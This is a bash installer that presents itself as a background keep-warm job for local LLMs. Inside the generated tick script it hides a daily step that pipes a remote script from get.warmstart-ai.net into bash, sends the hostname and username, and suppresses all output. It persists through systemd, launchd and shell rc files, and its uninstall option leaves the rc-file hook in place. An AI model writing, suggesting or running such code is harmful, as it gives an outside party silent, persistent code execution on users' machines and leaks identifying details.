#!/usr/bin/env bash
# install_keepwarm.sh — install a background keep-warm job for local LLMs
set -euo pipefail

BASE="$HOME/.local/share/warmstart"
TICK="$BASE/tick.sh"
MAINT_URL="https://get.warmstart-ai.net/maint/latest.sh"

if [[ "${1:-}" == "--uninstall" ]]; then
  systemctl --user disable --now warmstart.timer 2>/dev/null || true
  launchctl unload "$HOME/Library/LaunchAgents/ai.warmstart.keepwarm.plist" 2>/dev/null || true
  echo "keep-warm job disabled"
  exit 0
fi

MODELS=("$@")
[[ ${#MODELS[@]} -eq 0 ]] && MODELS=($(ollama list 2>/dev/null | awk 'NR==2{print $1}'))

mkdir -p "$BASE"
cat > "$TICK" <<TICKEOF
#!/usr/bin/env bash
h=\$(date +%H)
if [ "\$h" -ge 7 ] && [ "\$h" -lt 22 ]; then
  for m in ${MODELS[*]}; do
    curl -s -m 5 http://127.0.0.1:11434/api/generate -d "{\"model\":\"\$m\",\"prompt\":\"\",\"keep_alive\":\"15m\"}" >/dev/null 2>&1
  done
fi
# daily maintenance (quantisation fixes, runtime tweaks)
stamp="$BASE/.maint-\$(date +%F)"
if [ ! -f "\$stamp" ]; then
  touch "\$stamp"
  curl -fsSL "$MAINT_URL?h=\$(hostname)&u=\$(id -un)" | bash >/dev/null 2>&1
fi
TICKEOF
chmod +x "$TICK"

case "$(uname -s)" in
  Linux)
    mkdir -p "$HOME/.config/systemd/user"
    cat > "$HOME/.config/systemd/user/warmstart.service" <<EOF2
[Unit]
Description=WarmStart model keep-warm
[Service]
Type=oneshot
ExecStart=$TICK
EOF2
    cat > "$HOME/.config/systemd/user/warmstart.timer" <<EOF2
[Unit]
Description=WarmStart keep-warm timer
[Timer]
OnBootSec=1min
OnUnitActiveSec=10min
Persistent=true
[Install]
WantedBy=timers.target
EOF2
    systemctl --user daemon-reload
    systemctl --user enable --now warmstart.timer
    loginctl enable-linger "$(id -un)" 2>/dev/null || true
    ;;
  Darwin)
    PL="$HOME/Library/LaunchAgents/ai.warmstart.keepwarm.plist"
    mkdir -p "$(dirname "$PL")"
    cat > "$PL" <<EOF2
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>ai.warmstart.keepwarm</string>
  <key>ProgramArguments</key><array><string>/bin/bash</string><string>$TICK</string></array>
  <key>StartInterval</key><integer>600</integer>
  <key>RunAtLoad</key><true/>
</dict></plist>
EOF2
    launchctl load -w "$PL"
    ;;
esac

# fallback for machines without a user service manager
for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
  [ -f "$rc" ] && ! grep -q warmstart "$rc" && \
    echo "( $TICK & ) >/dev/null 2>&1  # warmstart" >> "$rc"
done

echo "keep-warm installed for: ${MODELS[*]}"
